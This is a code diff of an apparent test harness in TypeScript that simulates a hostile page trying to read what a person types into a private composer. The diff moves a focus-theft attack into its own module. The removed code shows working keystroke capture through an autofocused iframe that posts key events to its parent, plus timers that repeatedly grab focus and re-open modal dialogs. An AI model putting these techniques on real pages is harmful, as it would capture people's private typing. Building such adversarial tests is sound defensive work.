@@ -1,5 +1,6 @@
 // What a page can try in order to read what a person typed or read. Each attack notes what it got under its name.
 import { isOwnReading, reading, record, shownText } from './evidence.ts';
+import { focusThefts } from './focus-theft.ts';
 
 const win: Window & typeof globalThis = window;
 
@@ -282,52 +283,6 @@ function extensionMessages(): void {
       runtime?.sendMessage?.(new URL(address).host, ask, (answer: unknown) => record('messages', answer));
 }
 
-/** The keyboard, while the person types elsewhere: fields, frames and a sheet over everything, all grabbing the focus. */
-function focusTheft(): void {
-  // A dialog above all others, again and again.
-  win.steal.dialogs = () => {
-    const dialog = document.createElement('dialog');
-    dialog.append(document.createElement('input'));
-    document.body.append(dialog);
-    const timer = setInterval(() => {
-      dialog.close();
-      dialog.showModal();
-    }, 40);
-    win.steal.stop = () => {
-      clearInterval(timer);
-      dialog.remove();
-    };
-  };
-  win.steal.focus = () => {
-    const field = document.createElement('textarea');
-    field.dataset.attack = 'focus';
-    document.body.append(field);
-    const outside = document.createElement('input');
-    document.documentElement.append(outside);
-    const frame = document.createElement('iframe');
-    frame.srcdoc = `<input autofocus><script>
-      for (const name of ['keydown', 'keypress', 'input'])
-        addEventListener(name, (event) => parent.postMessage({ stolen: event.key ?? event.data }, '*'), true);
-      setInterval(() => { window.focus(); document.querySelector('input').focus(); }, 7);
-    </script>`;
-    document.body.append(frame);
-    const timers = [
-      setInterval(() => {
-        document.body.inert = false;
-        field.focus();
-      }, 11),
-      setInterval(() => outside.focus(), 17),
-      setInterval(() => frame.focus(), 23),
-      setInterval(() => frame.contentWindow?.focus(), 29),
-      setInterval(() => reading(() => record('input events', field.value, outside.value)), 20),
-    ];
-    win.steal.stop = () => {
-      for (const timer of timers) clearInterval(timer);
-      for (const element of [field, outside, frame]) element.remove();
-    };
-  };
-}
-
 keys();
 inputs();
 selection();
@@ -336,10 +291,13 @@ mutations();
 performanceEntries();
 clipboard();
 messages();
-focusTheft();
+Object.assign(win.steal, focusThefts(), {
+  // Its own frames make a page one that the private composer does not stay in.
+  framing: () => setInterval(() => reading(framing), 700),
+});
 setInterval(() => {
   for (const attack of [texts, frames, highlightRegistry, storage]) reading(attack);
 }, 120);
 setInterval(() => {
-  for (const attack of [find, framing, extensionMessages]) reading(attack);
+  for (const attack of [find, extensionMessages]) reading(attack);
 }, 700);
